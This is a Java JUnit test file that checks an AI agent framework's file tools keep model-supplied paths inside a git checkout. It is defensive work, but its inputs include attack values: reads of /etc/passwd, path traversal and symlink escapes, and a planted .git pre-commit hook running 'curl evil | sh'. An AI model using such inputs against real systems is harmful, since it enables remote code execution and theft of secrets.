package dev.turboagents.actors.tools.files;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.turboagents.actors.tools.files.Refusal.Reason;
import dev.turboagents.actors.tools.workspace.IsolatedGitConfig;
import dev.turboagents.config.ToolSettings.FileLimits;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.api.errors.GitAPIException;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The file tools in a real git checkout, and every way a model's path could leave it. */
class CheckoutFilesTest {

  @TempDir
  Path checkout;

  @TempDir
  Path outside;

  @TempDir
  Path jgitHome;

  private CheckoutFiles files;

  @BeforeEach
  void aCheckoutWithAFileAndASecretNextToIt() throws IOException, GitAPIException {
    IsolatedGitConfig.install(jgitHome);
    Git.init().setDirectory(checkout.toFile()).call().close();
    Files.writeString(checkout.resolve("README.md"), "# demo\nline two\n");
    Files.writeString(outside.resolve("secret.txt"), "the daemon's secret");
    files = new CheckoutFiles(checkout, new FileLimits(1024, 100));
  }

  private static Refusal refused(Object result, Reason reason) {
    Refusal refusal = assertInstanceOf(Refusal.class, result);
    assertEquals(reason, refusal.reason(), refusal.message());
    return refusal;
  }

  @Test
  void writesAndReadsInsideTheCheckout() throws IOException {
    WriteResult.Written created = assertInstanceOf(WriteResult.Written.class, files.write("src/main/App.java", "class App {}\n"));
    assertEquals(new WriteResult.Written("src/main/App.java", 13, true), created);
    assertEquals("class App {}\n", Files.readString(checkout.resolve("src/main/App.java")));
    assertFalse(assertInstanceOf(WriteResult.Written.class, files.write("./src/main/App.java", "class App { }\n")).created());

    assertEquals(new ReadResult.Text("src/main/App.java", "class App { }\n", 14), files.read("src/main/App.java"));
    assertEquals("README.md", assertInstanceOf(ReadResult.Text.class, files.read("src/../README.md")).path());
  }

  @Test
  void anAbsolutePathIsRefused() {
    Path target = outside.resolve("planted.txt");
    Refusal read = refused(files.read("/etc/passwd"), Reason.ABSOLUTE);
    assertEquals("path '/etc/passwd' is absolute; give it relative to the workspace root, e.g. 'src/Main.java'", read.message());
    refused(files.write(target.toString(), "x"), Reason.ABSOLUTE);
    assertFalse(Files.exists(target));
  }

  @Test
  void dotDotThatLeavesTheCheckoutIsRefused() {
    Refusal read = refused(files.read("../../etc/passwd"), Reason.OUTSIDE_WORKSPACE);
    assertEquals("path '../../etc/passwd' is outside the workspace", read.message());
    Path sibling = checkout.getParent().resolve("escaped.txt");
    refused(files.write("src/../../" + sibling.getFileName(), "x"), Reason.OUTSIDE_WORKSPACE);
    assertFalse(Files.exists(sibling));
    refused(files.list(".."), Reason.OUTSIDE_WORKSPACE);
  }

  @Test
  void aSymbolicLinkLeadingOutsideIsRefusedForReadingAndWriting() throws IOException {
    Files.createSymbolicLink(checkout.resolve("passwd"), Path.of("/etc/passwd"));
    Files.createSymbolicLink(checkout.resolve("docs"), outside);
    Files.createSymbolicLink(checkout.resolve("dangling"), checkout.resolve("nowhere/at/all"));

    Refusal link = refused(files.read("passwd"), Reason.SYMLINK_ESCAPE);
    assertEquals("path 'passwd' leads outside the workspace through the symbolic link 'passwd'", link.message());
    refused(files.read("docs/secret.txt"), Reason.SYMLINK_ESCAPE);
    refused(files.write("docs/planted.txt", "x"), Reason.SYMLINK_ESCAPE);
    refused(files.edit("docs/secret.txt", "secret", "leaked"), Reason.SYMLINK_ESCAPE);
    refused(files.list("docs"), Reason.SYMLINK_ESCAPE);
    refused(files.write("dangling", "x"), Reason.SYMLINK_ESCAPE);

    assertFalse(Files.exists(outside.resolve("planted.txt")));
    assertFalse(Files.exists(checkout.resolve("nowhere")));
    assertEquals("the daemon's secret", Files.readString(outside.resolve("secret.txt")));
  }

  @Test
  void aSymbolicLinkThatStaysInsideIsFollowed() throws IOException {
    Files.createSymbolicLink(checkout.resolve("readme-link"), Path.of("README.md"));
    ReadResult.Text text = assertInstanceOf(ReadResult.Text.class, files.read("readme-link"));
    assertEquals("README.md", text.path(), "reported where it really is");
    assertEquals("# demo\nline two\n", text.content());
  }

  @Test
  void nothingUnderGitMayBeTouchedNotEvenThroughAPlantedLink() throws IOException {
    Path hook = checkout.resolve(".git/hooks/pre-commit");
    Refusal planted = refused(files.write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n"), Reason.GIT_METADATA);
    assertEquals("path '.git/hooks/pre-commit' is inside .git, which no tool may read or change", planted.message());
    refused(files.read(".git/config"), Reason.GIT_METADATA);
    refused(files.write("src/../.git/config", "[core]\n\thooksPath = /tmp\n"), Reason.GIT_METADATA);
    refused(files.write(".GIT/hooks/post-commit", "x"), Reason.GIT_METADATA);
    refused(files.write("vendor/lib/.git/hooks/pre-commit", "x"), Reason.GIT_METADATA);
    refused(files.list(".git"), Reason.GIT_METADATA);

    Files.createSymbolicLink(checkout.resolve("hooks"), checkout.resolve(".git/hooks"));
    Refusal viaLink = refused(files.write("hooks/pre-commit", "#!/bin/sh\n"), Reason.SYMLINK_ESCAPE);
    assertEquals("path 'hooks/pre-commit' leads into .git through the symbolic link 'hooks'", viaLink.message());

    assertFalse(Files.exists(hook));
    assertFalse(Files.exists(checkout.resolve(".git/hooks/post-commit")));
    assertFalse(Files.readString(checkout.resolve(".git/config")).contains("hooksPath"));
  }

  @Test
  void filesOverTheLimitAreRefusedBothWays() throws IOException {
    String big = "x".repeat(2048);
    Files.writeString(checkout.resolve("big.txt"), big);
    Refusal read = refused(files.read("big.txt"), Reason.TOO_LARGE);
    assertEquals("file 'big.txt' is 2.0 KiB; tools read files of at most 1.0 KiB", read.message());

    refused(files.write("README.md", big), Reason.TOO_LARGE);
    assertEquals("# demo\nline two\n", Files.readString(checkout.resolve("README.md")), "unchanged");
    refused(files.edit("README.md", "line two", big), Reason.TOO_LARGE);
    assertEquals("# demo\nline two\n", Files.readString(checkout.resolve("README.md")), "unchanged");
  }

  @Test
  void whatIsNotATextFileIsSaidSo() throws IOException {
    Files.write(checkout.resolve("logo.png"), new byte[] {(byte) 0x89, 'P', 'N', 'G', (byte) 0xff, (byte) 0xfe});
    Files.createDirectories(checkout.resolve("src"));
    assertEquals("file 'logo.png' is not UTF-8 text", refused(files.read("logo.png"), Reason.NOT_TEXT).message());
    assertEquals("file 'missing.txt' does not exist", refused(files.read("missing.txt"), Reason.NOT_FOUND).message());
    assertEquals("'src' is a directory; list_files shows what is in it", refused(files.read("src"), Reason.NOT_A_FILE).message());
    refused(files.write("src", "x"), Reason.NOT_A_FILE);
    refused(files.write("README.md/inner.txt", "x"), Reason.NOT_A_DIRECTORY);
    refused(files.read(""), Reason.INVALID_PATH);
  }

  @Test
  void thePatchEditReplacesOnlyAUniqueSnippet() throws IOException {
    Files.writeString(checkout.resolve("App.java"), "class App {\n  int a = 1;\n  int b = 1;\n  int a2 = 1;\n}\n");

    String edited = "class App {\n  int a = 1;\n  int b = 2;\n  int a2 = 1;\n}\n";
    assertEquals(new EditResult.Edited("App.java", 3, edited.length()), files.edit("App.java", "int b = 1;", "int b = 2;"));
    assertEquals(edited, Files.readString(checkout.resolve("App.java")));

    Refusal ambiguous = refused(files.edit("App.java", " = 1;", " = 3;"), Reason.AMBIGUOUS_MATCH);
    assertEquals("the text to replace occurs 2 times in 'App.java' (at lines 2, 4); include more of the surrounding lines so it occurs once",
        ambiguous.message());
    Refusal missing = refused(files.edit("App.java", "int c = 1;", "int c = 2;"), Reason.NO_MATCH);
    assertEquals("the text to replace does not occur in 'App.java'", missing.message());
    Refusal loose = refused(files.edit("App.java", "int a = 1;\nint b = 2;", "x"), Reason.NO_MATCH);
    assertTrue(loose.message().contains("if spaces and line breaks are ignored"), loose.message());
    refused(files.edit("App.java", "", "x"), Reason.NO_MATCH);
    assertEquals(edited, Files.readString(checkout.resolve("App.java")), "refused edits change nothing");
  }

  @Test
  void listingSkipsGitAndIgnoredFilesFollowsNoLinkAndIsBounded() throws IOException {
    Files.writeString(checkout.resolve(".gitignore"), "target/\n*.log\n");
    Files.createDirectories(checkout.resolve("target/classes"));
    Files.writeString(checkout.resolve("target/classes/App.class"), "x");
    Files.writeString(checkout.resolve("build.log"), "x");
    Files.createDirectories(checkout.resolve("src/main"));
    Files.writeString(checkout.resolve("src/main/App.java"), "x");
    Files.createSymbolicLink(checkout.resolve("docs"), outside);

    ListResult.Listing all = assertInstanceOf(ListResult.Listing.class, files.list(""));
    assertEquals(new ListResult.Listing(".", List.of(".gitignore", "README.md", "docs", "src/main/App.java"), false), all);
    assertEquals(List.of("src/main/App.java"), assertInstanceOf(ListResult.Listing.class, files.list("src")).files());

    ListResult.Listing bounded = assertInstanceOf(ListResult.Listing.class,
        new CheckoutFiles(checkout, new FileLimits(1024, 2)).list("."));
    assertEquals(new ListResult.Listing(".", List.of(".gitignore", "README.md"), true), bounded);
    refused(files.list("README.md"), Reason.NOT_A_DIRECTORY);
  }

  @Test
  void gitNamesAreRecognisedInEveryDisguise() {
    assertTrue(CheckoutPaths.isGitName(".git"));
    assertTrue(CheckoutPaths.isGitName(".GiT"));
    assertTrue(CheckoutPaths.isGitName(".g\u200cit"), "HFS+ ignores zero-width characters");
    assertFalse(CheckoutPaths.isGitName(".gitignore"));
    assertFalse(CheckoutPaths.isGitName("git"));
  }
}
